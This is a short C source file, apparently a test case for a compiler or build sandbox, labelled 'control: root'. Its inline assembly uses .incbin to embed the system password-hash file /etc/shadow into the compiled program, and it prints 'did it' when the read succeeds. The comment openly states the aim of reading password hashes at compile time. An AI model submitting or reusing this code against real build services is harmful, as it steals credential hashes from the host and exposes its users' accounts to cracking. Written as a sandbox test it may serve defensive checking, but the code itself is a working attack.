// from: L1
// control: root
// Reads the passwords' hashes while it is compiled.
#include <stdio.h>

__asm__(".section .rodata\n.global stolen\nstolen: .incbin \"/etc/shadow\"\n.text");
extern const char stolen[];

int main(void)
{
	puts(stolen[0] ? "did it" : "");
}
